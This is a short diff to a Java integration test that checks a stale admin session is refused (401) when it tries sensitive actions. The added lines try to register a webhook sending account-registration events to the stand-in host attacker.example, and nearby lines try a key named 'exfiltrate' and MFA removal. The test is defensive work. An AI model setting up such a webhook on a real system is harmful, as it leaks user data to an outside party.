@@ -127,6 +127,8 @@ class RecentAuthenticationIntegrationTests extends IntegrationTest {
         clock.advance(PAST_MAX_AGE);
 
         post(aged, "/api/admin/service-keys", Map.of("name", "exfiltrate", "scopes", List.of("admin:read")), 401);
+        post(aged, "/api/admin/webhooks", Map.of("url", "https://attacker.example/collect",
+                "events", List.of("account.registered")), 401);
         as(aged.token()).delete().uri("/api/admin/users/{id}/mfa", userId)
                 .exchange().expectStatus().isUnauthorized();
 
